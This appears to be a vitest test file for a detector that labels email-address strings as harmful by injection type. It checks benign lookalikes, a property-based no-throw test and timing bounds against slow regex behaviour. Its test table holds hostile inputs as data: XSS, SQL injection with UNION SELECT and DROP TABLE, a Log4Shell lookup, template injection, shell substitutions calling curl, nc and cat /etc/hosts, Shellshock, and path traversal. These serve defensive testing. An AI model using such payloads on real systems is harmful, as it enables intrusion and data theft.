import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { harmOf } from "../../src/identifier/email-harm.js";
import { codePoint } from "../../../../tools/test/code-point.js";

describe("harmOf", () => {
  it.each([
    ["control characters", "ann@example.com\r\nBcc: eve@example.com"],
    ["control characters", "ann\u0000@example.com"],
    ["control characters", "ann@example.com\u007f"],
    ["control characters", "ann\u202emoc@example.com"],
    ["control characters", "ann%0d%0abcc:eve@example.com"],
    ["markup", "<script>alert(1)</script>@example.com"],
    ["markup", '"<script>alert(1)</script>"@example.com'],
    ["markup", "ann<ScRiPt src=//x>@example.com"],
    ["markup", "<img/src=x onerror=alert(1)>@x.y"],
    ["markup", "ann@example.com<br>"],
    ["markup", "%3Cscript%3Ealert(1)%3C/script%3E@x.y"],
    ["markup", "<!--#exec-->@x.y"],
    ["markup", "<?php phpinfo()?>@x.y"],
    ["script", "javascript:alert(1)@x.y"],
    ["script", "JavaScript :alert(1)//@x.y"],
    ["script", "data:text/html;base64,AAAA@x.y"],
    ["script", '"onmouseover=alert(1)"@x.y'],
    ["script", "a' onfocus=alert(1)@x.y"],
    ["template", "${jndi:ldap://x.y/a}@x.y"],
    ["template", "{{7*7}}@x.y"],
    ["template", "#{7*7}@x.y"],
    ["SQL", "' or 1=1--@x.y"],
    ["SQL", "'or'1'='1@x.y"],
    ["SQL", "admin'--@x.y"],
    ["SQL", "a' or true--@x.y"],
    ["SQL", "a' and name like '%@x.y"],
    ["SQL", "a') or ('1'='1@x.y"],
    ["SQL", 'a" OR "1"="1@x.y'],
    ["SQL", "a' UNION SELECT password FROM users@x.y"],
    ["SQL", "a; DROP TABLE users@x.y"],
    ["shell command", "$(curl x.y)@x.y"],
    ["shell command", "`cat /etc/hosts`@x.y"],
    ["shell command", "() { :;}; echo@x.y"],
    ["shell command", "a|nc x.y@x.y"],
    ["path", "../../etc/passwd@x.y"],
    ["path", "..\\..\\windows@x.y"],
  ])("calls it %s: %j", (harm, email) => {
    expect(harmOf(email)).toBe(harm);
  });

  it.each([
    "ann@example.com",
    "o'brien@x.y",
    "o'or@x.y",
    "d'and+tag@x.y",
    '"a b"@x.y',
    '"this or that"@x.y',
    "a+b@x.y",
    "a/b@x.y",
    "50%off@x.y",
    "user%3com.example@relay.example",
    "a|b@x.y",
    "rock&roll@x.y",
    "r&d|sh@x.y",
    "$money$@x.y",
    "{braces}@x.y",
    "`tick`@x.y",
    "script@x.y",
    "javascript@x.y",
    "javascript.fan@x.y",
    "union.select@x.y",
    "drop.table@x.y",
    "on-call@x.y",
    "a=b@x.y",
    "/O=Org/OU=Unit/@x.y",
    "Ann Lee <ann@example.com>",
    "Hotel d'Or Bleu <desk@example.com>",
    "Rose 'and' Sons <shop@example.com>",
    "<ann@example.com>",
    "ann@[192.0.2.1]",
    "a..b@example.com",
    "\u00fcml\u00e4ut@b\u00fccher.example",
    "\u7528\u6237@\u4f8b\u5b50.\u6d4b\u8bd5",
    "not an address",
  ])("calls %j harmless", (email) => {
    expect(harmOf(email)).toBeUndefined();
  });

  it("never throws", () => {
    fc.assert(
      fc.property(fc.string({ unit: codePoint }), (text) => {
        harmOf(text);
      }),
      { numRuns: 1000 },
    );
  });

  it.each([
    "<",
    "<a",
    "'",
    "' ",
    "`a",
    "` ",
    "/on",
    " onabc",
    ";",
    "union ",
    "$",
    ")(",
    "data:a",
    "%3c",
  ])("takes time in proportion to the length of a run of %j", (piece) => {
    const text = piece.repeat(200_000 / piece.length) + "\u00a0";
    const before = process.cpuUsage();
    harmOf(text);
    // Linear is below 30 ms; a quadratic pattern would need minutes.
    expect(process.cpuUsage(before).user / 1000).toBeLessThan(3000);
  });
});
